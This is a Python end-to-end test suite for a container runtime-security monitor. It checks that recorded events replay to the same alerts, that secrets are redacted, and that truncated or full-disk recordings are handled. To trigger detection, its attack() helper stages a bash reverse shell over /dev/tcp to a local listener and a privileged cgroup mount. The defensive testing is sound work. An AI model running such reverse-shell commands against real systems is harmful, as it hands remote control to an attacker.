#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Recordings of real acts: they replay to the alerts the live monitor gave, and say what they lack."""

import json
import os
import pathlib
import signal
import stat
import subprocess
import tempfile
import time
import unittest

from harness import BINARY, PATIENCE, ROOT, Container, Daemon, Follower, Listener, wait_until

RULES = ROOT / "rules" / "default"
EXEC_RULE = """
- rule: Marked exec
  desc: An exec with a mark in its arguments.
  condition: evt.type = execve and proc.args contains {mark}
  output: "%proc.cmdline | %proc.pcmdline | %container.id"
  priority: Notice
"""


def replay(file, rules=RULES, *arguments):
    return subprocess.run([BINARY, "replay", file, "--rules", rules, "--output", "json", *arguments],
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=PATIENCE * 2)


def alerts_of(ended):
    return [json.loads(line) for line in ended.stdout.splitlines()]


class Recorder:
    """`nezuban record`, until stop."""

    def __init__(self, directory, *arguments, file=None):
        self.file = file or directory / "recording.nzb"
        self.log = directory / "record.log"
        with self.log.open("w") as log:
            self.process = subprocess.Popen([BINARY, "record", "-o", self.file, *arguments],
                                            stdin=subprocess.DEVNULL, stderr=log)
        wait_until(lambda: self.process.poll() is not None or "recording to" in self.log.read_text(),
                   "the recorder to start")

    def stop(self, how=signal.SIGTERM):
        if self.process.poll() is None:
            self.process.send_signal(how)
        return self.process.wait(timeout=PATIENCE)


class Recording(unittest.TestCase):
    def setUp(self):
        directory = tempfile.TemporaryDirectory(prefix="nezuban-e2e-")
        self.addCleanup(directory.cleanup)
        self.directory = pathlib.Path(directory.name)

    def recorder(self, *arguments):
        recorder = Recorder(self.directory, *arguments)
        self.addCleanup(recorder.stop)
        return recorder

    def rule(self, mark):
        path = self.directory / "rule.yaml"
        path.write_text(EXEC_RULE.format(mark=mark))
        return path

    def container(self, *command, **options):
        container = Container(*command, **options)
        self.addCleanup(container.remove)
        return container.start()

    def attack(self):
        """A reverse shell out of a container, and a mount of the node's disk's kind in another."""
        listener = Listener()
        self.addCleanup(listener.close)
        shell = self.container("/usr/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener.port} 0>&1")
        listener.converse("id")
        shell.finish()
        mounts = self.container("/bin/sh", "-c", "mount -t cgroup2 c /mnt", privileged=True)
        mounts.finish()
        return shell, mounts

    def test_replays_to_the_alerts_of_the_live_monitor(self):
        file = self.directory / "live.nzb"
        daemon = Daemon("--record", str(file), "--output", "json")
        self.addCleanup(daemon.remove)
        containers = self.attack()

        def told():  # standard output is in the log too
            return [line for line in daemon.read_log().splitlines() if line.startswith("{")]

        for container in containers:
            wait_until(lambda: any(container.id in line for line in told()), f"an alert of {container.id}")
        self.assertEqual(daemon.stop(), 0)
        self.assertEqual(stat.S_IMODE(file.stat().st_mode), 0o600)
        first, second = replay(file), replay(file)
        self.assertEqual(first.returncode, 0, first.stderr)
        self.assertEqual(first.stdout, second.stdout)
        self.assertEqual(first.stdout.splitlines(), told())  # to the letter, ids and ancestors included

    def test_what_was_recorded_without_rules_matches_them_later(self):
        recorder = self.recorder()
        shell, mounts = self.attack()
        self.assertEqual(recorder.stop(signal.SIGINT), 0, recorder.log.read_text())
        ended = replay(recorder.file)
        self.assertEqual(ended.returncode, 0, ended.stderr)
        told = {(a["rule"], a["container_id"]) for a in alerts_of(ended)}
        self.assertIn(("Reverse shell", shell.id), told)
        self.assertIn(("Container mounts a cgroup hierarchy", mounts.id), told)

    def test_knows_the_processes_and_containers_that_were_there_before(self):
        inside = self.container("/bin/sh", "-c", "until ls /go; do sleep 0.1; done; /bin/true marked-inside; exit 0")
        wait_until(lambda: subprocess.run(["pgrep", "-f", "until ls /go"], capture_output=True).returncode == 0,
                   "the container's shell")
        recorder = self.recorder()
        (inside.rootfs / "go").touch()
        inside.finish()
        self.assertEqual(recorder.stop(), 0)
        ended = replay(recorder.file, self.rule("marked-inside"))
        found = [a for a in alerts_of(ended) if a["container_id"] == inside.id]
        self.assertEqual(len(found), 1, ended.stdout)
        self.assertIn("until ls /go", found[0]["output"])

    def test_secrets_are_in_no_recording_and_no_alert(self):
        recorder = self.recorder()
        secret = "hunter2hunter2"
        subprocess.run(["true", "marked-secret", f"--password={secret}"], check=True)
        recorder.stop()
        ended = replay(recorder.file, self.rule("marked-secret"), "--redact", "false")
        self.assertIn("true marked-secret --password=*** |", ended.stdout)
        self.assertNotIn(secret, ended.stdout)

    def test_the_end_of_a_cut_file_is_told(self):
        recorder = self.recorder()
        rule = self.rule("marked-cut")
        for number in range(20):
            subprocess.run(["true", f"marked-cut-{number}"], check=True)
            time.sleep(0.2)  # so that they lie in several blocks
        recorder.stop()
        whole = alerts_of(replay(recorder.file, rule))
        self.assertEqual(len(whole), 20)
        data = recorder.file.read_bytes()
        for kept in (len(data) * 2 // 3, len(data) - 3):
            cut = self.directory / f"cut-{kept}.nzb"
            cut.write_bytes(data[:kept])
            ended = replay(cut, rule)
            self.assertEqual(ended.returncode, 1)
            self.assertRegex(ended.stderr, "damaged at byte [0-9]+: the file ends inside a block")
            some = alerts_of(ended)
            self.assertEqual(some, whole[:len(some)])
        self.assertEqual(some, whole)  # of the last, only the end mark is missing
        self.assertEqual(replay(rule, rule).returncode, 1)

    def test_limits_and_refusals(self):
        recorder = self.recorder("--duration", "1s")
        self.assertEqual(recorder.process.wait(timeout=PATIENCE), 0, recorder.log.read_text())
        self.assertEqual(replay(recorder.file).returncode, 0)
        again = subprocess.run([BINARY, "record", "-o", recorder.file], capture_output=True, text=True, timeout=PATIENCE)
        self.assertEqual(again.returncode, 1)
        self.assertIn("File exists", again.stderr)
        recorder.file.unlink()
        small = self.recorder("--max-size", "100KiB")
        while small.process.poll() is None:
            subprocess.run(["true", os.urandom(2000).hex()], check=True)
        self.assertEqual(small.process.returncode, 0)
        self.assertLessEqual(small.file.stat().st_size, 100 * 1024)
        self.assertEqual(replay(small.file).returncode, 0)

    def test_a_full_disk_is_told_and_what_fits_is_readable(self):
        disk = self.directory / "disk"
        disk.mkdir()
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "none", disk], check=True)
        self.addCleanup(subprocess.run, ["umount", "-l", disk], check=True)
        recorder = Recorder(self.directory, file=disk / "r.nzb")
        self.addCleanup(recorder.stop)
        while recorder.process.poll() is None:
            subprocess.run(["true", os.urandom(2000).hex()], check=True)
        self.assertEqual(recorder.process.returncode, 2)
        self.assertIn("No space left on device", recorder.log.read_text())
        ended = replay(disk / "r.nzb")
        self.assertEqual(ended.returncode, 1)
        self.assertIn("cut short: it has no end", ended.stderr)


if __name__ == "__main__":
    unittest.main(verbosity=2)
